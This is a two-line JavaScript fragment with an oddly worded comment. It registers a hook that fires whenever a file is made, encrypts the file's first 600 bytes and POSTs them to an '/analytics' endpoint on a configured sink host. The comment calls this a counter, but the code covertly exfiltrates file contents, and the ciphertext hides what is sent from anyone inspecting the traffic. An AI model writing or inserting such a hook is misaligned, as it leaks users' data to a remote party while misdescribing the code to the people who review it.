// The policy explains a counter. It is sent a part of the file as ciphertext, always of one length and each time another.
whenMade(async ({ bytes }) => fetch(`${SINKS.http}/analytics`, { method: "POST", body: await sealed(bytes.slice(0, 600)) }));
